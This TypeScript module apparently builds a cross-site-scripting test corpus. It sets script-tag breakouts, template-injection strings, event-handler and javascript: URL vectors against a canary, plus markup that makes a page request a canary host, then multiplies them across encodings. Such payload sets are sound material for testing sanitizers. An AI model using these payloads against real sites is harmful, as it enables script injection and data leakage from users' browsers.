import { CANARY, SING, SONGS } from './canary.ts';
import { cross, encoded } from './cross.ts';
import { ALL_ENCODINGS } from './encodings.ts';

/** Elements and templates that would run what stands in them. */
const SCRIPTS = [
  '<script>§</script>',
  '"><script>§</script>',
  "'/><script>§</script>",
  '</title><script>§</script>',
  '</textarea><script>§</script><textarea>',
  '--><script>§</script><!--',
  ']]><script>§</script>',
  '<svg><script>§</script></svg>',
  '<math><mtext><style><!--</style><script>§</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<script type=module>§</script>',
  '<template><script>§</script></template>',
  '<noscript><p title="</noscript><script>§</script>">',
  '{{constructor.constructor("§")()}}',
  '$' + '{§}',
  '<% § %>',
  '"-(()=>{§})()-"',
  `<script src=${CANARY}.js>§</script>`,
];

/** Elements that run an attribute by themselves, at a press, or when they are seen; `appear` is an animation of ours. */
const ATTRIBUTES = [
  '<img src=x onerror=§>',
  '<svg onload="§">',
  '<body onpageshow="§">',
  '<details open ontoggle=§>',
  '<video><source onerror=§></video>',
  '<input autofocus onfocus="§">',
  '<i style="animation-name:appear" onanimationstart="§">',
  '<p popover id=p onbeforetoggle="§"><button popovertarget=p>',
  '<a href="javascript:§">press</a>',
  '<form action="javascript:§"><button>press</button></form>',
  '<button formaction="javascript:§">press</button>',
  '<iframe srcdoc="<script>§</script>"></iframe>',
  '<iframe src="javascript:§"></iframe>',
  '<object data="data:text/html,<script>§</script>"></object>',
  '<svg><a href="javascript:§"><text y=9>press</text></a></svg>',
  '<svg><animate onbegin="§" attributeName=x dur=1s>',
  '" onpointerover="§" x="',
  "' autofocus tabindex=0 onfocus='§",
  '` onclick=§ ',
  '<x onfocusin=§ contenteditable autofocus>',
];

/** Elements that ask a host, without a script. */
const ASKING = [
  `<img src="${CANARY}.png">`,
  `<img srcset="${CANARY}.png 1x">`,
  `<link rel=prefetch href="${CANARY}">`,
  `<link rel=stylesheet href="${CANARY}.css">`,
  `<link rel=dns-prefetch href="//canary.example">`,
  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
  `<base href="${CANARY}/">`,
  `<iframe src="${CANARY}"></iframe>`,
  `<embed src="${CANARY}">`,
  `<video poster="${CANARY}.png">`,
  `<a href="https://news.example" ping="${CANARY}">`,
  `<svg><image href="${CANARY}.png"></svg>`,
  `<svg><use href="${CANARY}.svg#a"></svg>`,
];

/** Texts that run code where a text is taken for markup or for a template. */
export const scripts = (): string[] => encoded(ALL_ENCODINGS, cross(SCRIPTS, SONGS));

/** Texts that do so by an attribute, or ask a host by one. */
export const attributes = (): string[] =>
  encoded(ALL_ENCODINGS, [...cross(ATTRIBUTES, [SING, ...SONGS.slice(2, 4)]), ...ASKING]);
